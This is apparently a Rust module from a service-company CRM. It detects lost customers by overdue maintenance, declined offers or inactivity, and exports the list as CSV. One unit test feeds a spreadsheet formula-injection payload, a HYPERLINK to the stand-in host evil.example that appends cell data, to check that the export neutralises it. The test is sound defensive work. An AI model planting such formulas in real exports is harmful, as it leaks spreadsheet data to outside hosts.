//! Lost-customer detection: who is slipping away, why, and who owns the relationship.
//!
//! A customer is lost when (first reason that applies):
//! - `maintenance_overdue`: a maintenance reminder is overdue by more than the grace
//!   period and the customer has no open work order;
//! - `declined`: the latest answer was "no" (a dismissed reminder or a cancelled order)
//!   and nothing was ordered since;
//! - `inactive`: a customer for longer than N months with no order closed in the last N
//!   months and none open.

use std::collections::{BTreeMap, HashSet};

use chrono::{DateTime, Months, NaiveDate, NaiveDateTime, Utc};
use diesel::prelude::*;
use serde::{Deserialize, Serialize};
use utoipa::{IntoParams, ToSchema};

use crate::core::customer::Segment;
use crate::core::fields::text_enum;
use crate::error::AppError;
use crate::store::page::contains_pattern;
use crate::store::schema::{customers, events, reminders, sites, users, work_orders};
use crate::store::{utc, DbConnection};

text_enum! {
    /// Why a customer counts as lost.
    pub enum LostReason {
        MaintenanceOverdue => "maintenance_overdue",
        Declined => "declined",
        Inactive => "inactive",
    }
}

/// A lost customer with the reason and what to do about it.
#[derive(Debug, Serialize, ToSchema)]
pub struct LostCustomer {
    pub customer_id: String,
    pub name: String,
    pub segment: Segment,
    pub city: Option<String>,
    pub reason: LostReason,
    /// What is overdue or what was declined, in words.
    pub detail: String,
    /// The day it fell due or was declined, or the last completed order.
    pub since: Option<NaiveDate>,
    /// The last time a person of the company acted on this customer.
    pub last_contact_at: Option<DateTime<Utc>>,
    /// Who acted last: the owner of the relationship now.
    pub owner_id: Option<String>,
    pub owner_name: Option<String>,
}

/// Filters of the list.
#[derive(Debug, Default, Deserialize, IntoParams)]
#[into_params(parameter_in = Query)]
pub struct LostFilter {
    pub segment: Option<Segment>,
    /// Customers with a site in this city (part of the name, any case).
    pub city: Option<String>,
    pub reason: Option<LostReason>,
    /// At most this many (1 to 5000, default 500), most urgent reasons first.
    pub limit: Option<i64>,
    /// `csv` for a spreadsheet instead of JSON.
    pub format: Option<String>,
}

/// The rules' parameters.
pub struct LostRules {
    pub today: NaiveDate,
    pub grace_days: i64,
    pub inactive_months: u32,
    /// Months and days are counted in the company's zone.
    pub tz: chrono_tz::Tz,
}

impl LostRules {
    /// The company's rules as of today.
    pub fn of(actor: &super::Actor, config: &crate::config::Config) -> LostRules {
        LostRules {
            today: actor.today(),
            grace_days: config.lost_grace_days,
            inactive_months: config.lost_inactive_months,
            tz: actor.timezone,
        }
    }
}

/// Why one customer is lost: the reason, what in words, since when.
type Finding = (LostReason, String, Option<NaiveDate>);

const OPEN: [&str; 9] = [
    "new",
    "agreed",
    "scheduling",
    "scheduled",
    "en_route",
    "on_site",
    "work_done",
    "certified",
    "postponed",
];

pub fn lost_customers(
    conn: &mut DbConnection,
    rules: &LostRules,
    filter: &LostFilter,
    limit: usize,
) -> Result<Vec<LostCustomer>, AppError> {
    let with_open_orders: HashSet<String> = work_orders::table
        .filter(work_orders::status.eq_any(OPEN))
        .select(work_orders::customer_id)
        .distinct()
        .load::<String>(conn)?
        .into_iter()
        .collect();
    let mut found: BTreeMap<String, Finding> = BTreeMap::new();

    let overdue_before = rules.today - chrono::Duration::days(rules.grace_days);
    let overdue: Vec<(String, NaiveDate, Option<String>)> = reminders::table
        .filter(reminders::kind.eq("maintenance"))
        .filter(reminders::status.eq_any(["open", "snoozed"]))
        .filter(reminders::due_on.lt(overdue_before))
        .order(reminders::due_on.asc())
        .select((reminders::customer_id, reminders::due_on, reminders::note))
        .load(conn)?;
    for (customer, due, note) in overdue {
        if !with_open_orders.contains(&customer) {
            let what = note.unwrap_or_else(|| "maintenance".into());
            found.entry(customer).or_insert((
                LostReason::MaintenanceOverdue,
                format!("{what} due {due}"),
                Some(due),
            ));
        }
    }

    let latest_order: BTreeMap<String, NaiveDateTime> = work_orders::table
        .group_by(work_orders::customer_id)
        .select((
            work_orders::customer_id,
            diesel::dsl::max(work_orders::created_at),
        ))
        .load::<(String, Option<NaiveDateTime>)>(conn)?
        .into_iter()
        .filter_map(|(c, at)| Some((c, at?)))
        .collect();
    let dismissed: Vec<(String, NaiveDateTime, Option<String>)> = reminders::table
        .filter(reminders::status.eq("dismissed"))
        .select((
            reminders::customer_id,
            reminders::updated_at,
            reminders::dismiss_reason,
        ))
        .load(conn)?;
    let cancelled: Vec<(String, NaiveDateTime, Option<String>)> = work_orders::table
        .filter(work_orders::status.eq("cancelled"))
        .select((
            work_orders::customer_id,
            work_orders::updated_at,
            work_orders::status_reason,
        ))
        .load(conn)?;
    for (customer, at, reason) in dismissed.into_iter().chain(cancelled) {
        let ordered_since = latest_order.get(&customer).is_some_and(|o| *o > at);
        if !ordered_since && !with_open_orders.contains(&customer) {
            let why = reason.unwrap_or_else(|| "no reason given".into());
            found.entry(customer).or_insert((
                LostReason::Declined,
                format!("declined: {why}"),
                Some(at.date()),
            ));
        }
    }

    let cutoff = rules
        .today
        .checked_sub_months(Months::new(rules.inactive_months))
        .unwrap_or(rules.today);
    let cutoff_at = crate::core::calendar::day_bounds(cutoff, rules.tz).0;
    let recently_closed: HashSet<String> = work_orders::table
        .filter(work_orders::status.eq("closed"))
        .filter(work_orders::updated_at.ge(cutoff_at))
        .select(work_orders::customer_id)
        .load::<String>(conn)?
        .into_iter()
        .collect();
    let old_customers: Vec<String> = customers::table
        .filter(customers::archived_at.is_null())
        .filter(customers::created_at.lt(cutoff_at))
        .select(customers::id)
        .load(conn)?;
    for customer in old_customers {
        if !recently_closed.contains(&customer) && !with_open_orders.contains(&customer) {
            let months = rules.inactive_months;
            found.entry(customer).or_insert((
                LostReason::Inactive,
                format!("no completed order for {months} months"),
                None,
            ));
        }
    }

    let city_customers: Option<HashSet<String>> = match filter
        .city
        .as_deref()
        .map(str::trim)
        .filter(|c| !c.is_empty())
    {
        Some(city) => Some(
            sites::table
                .filter(sites::search_text.like(contains_pattern(city)).escape('\\'))
                .select(sites::customer_id)
                .load::<String>(conn)?
                .into_iter()
                .collect(),
        ),
        None => None,
    };
    let mut candidates: Vec<(String, Finding)> = found
        .into_iter()
        .filter(|(c, (reason, _, _))| {
            filter.reason.is_none_or(|r| r == *reason)
                && city_customers.as_ref().is_none_or(|set| set.contains(c))
        })
        .collect();
    candidates.sort_by_key(|(c, (reason, _, since))| (rank(*reason), *since, c.clone()));

    let mut out = Vec::new();
    for (customer_id, (reason, detail, since)) in candidates {
        if out.len() >= limit {
            break;
        }
        let Some((name, segment, archived)) = customers::table
            .find(&customer_id)
            .select((customers::name, customers::segment, customers::archived_at))
            .first::<(String, String, Option<NaiveDateTime>)>(conn)
            .optional()?
        else {
            continue;
        };
        let segment =
            crate::store::decoded(Segment::parse(&segment), "segment", &customer_id, &segment)?;
        if archived.is_some() || filter.segment.is_some_and(|s| s != segment) {
            continue;
        }
        let city: Option<String> = sites::table
            .filter(sites::customer_id.eq(&customer_id))
            .order(sites::id.asc())
            .select(sites::city)
            .first(conn)
            .optional()?;
        let last: Option<(NaiveDateTime, String, String)> = events::table
            .inner_join(users::table)
            .filter(events::customer_id.eq(&customer_id))
            .order(events::id.desc())
            .select((events::occurred_at, users::id, users::name))
            .first(conn)
            .optional()?;
        out.push(LostCustomer {
            customer_id,
            name,
            segment,
            city,
            reason,
            detail,
            since,
            last_contact_at: last.as_ref().map(|l| utc(l.0)),
            owner_id: last.as_ref().map(|l| l.1.clone()),
            owner_name: last.map(|l| l.2),
        });
    }
    Ok(out)
}

fn rank(reason: LostReason) -> u8 {
    match reason {
        LostReason::MaintenanceOverdue => 0,
        LostReason::Declined => 1,
        LostReason::Inactive => 2,
    }
}

/// The list as CSV (RFC 4180), for a spreadsheet.
pub fn to_csv(rows: &[LostCustomer]) -> String {
    use crate::core::text::spreadsheet_cell as cell;
    let mut out = String::from(
        "customer_id,name,segment,city,reason,detail,since,last_contact_at,owner_name\r\n",
    );
    for r in rows {
        let fields = [
            r.customer_id.clone(),
            r.name.clone(),
            r.segment.as_str().to_owned(),
            r.city.clone().unwrap_or_default(),
            r.reason.as_str().to_owned(),
            r.detail.clone(),
            r.since.map(|d| d.to_string()).unwrap_or_default(),
            r.last_contact_at
                .map(|d| d.to_rfc3339())
                .unwrap_or_default(),
            r.owner_name.clone().unwrap_or_default(),
        ];
        out.push_str(&fields.iter().map(|f| cell(f)).collect::<Vec<_>>().join(","));
        out.push_str("\r\n");
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn csv_quotes_what_needs_quoting() {
        let row = LostCustomer {
            customer_id: "id".into(),
            name: "Кав'ярня \"Зерно\", Київ".into(),
            segment: Segment::B2b,
            city: None,
            reason: LostReason::Declined,
            detail: "declined: too expensive".into(),
            since: None,
            last_contact_at: None,
            owner_id: None,
            owner_name: None,
        };
        let csv = to_csv(&[row]);
        assert!(csv.contains("\"Кав'ярня \"\"Зерно\"\", Київ\""));
        assert!(csv.starts_with("customer_id,name,"));
    }

    #[test]
    fn a_formula_in_a_name_is_text_in_the_spreadsheet() {
        let row = LostCustomer {
            customer_id: "id".into(),
            name: "=HYPERLINK(\"http://evil.example/?x=\"&A2,\"Click\")".into(),
            segment: Segment::B2c,
            city: Some("@SUM(A1)".into()),
            reason: LostReason::Declined,
            detail: "-2+3".into(),
            since: None,
            last_contact_at: None,
            owner_id: None,
            owner_name: None,
        };
        let csv = to_csv(&[row]);
        let line = csv.lines().nth(1).unwrap();
        assert!(line.contains(",\"'=HYPERLINK("), "{line}");
        assert!(line.contains(",'@SUM(A1),"), "{line}");
        assert!(line.contains(",'-2+3,"), "{line}");
    }
}
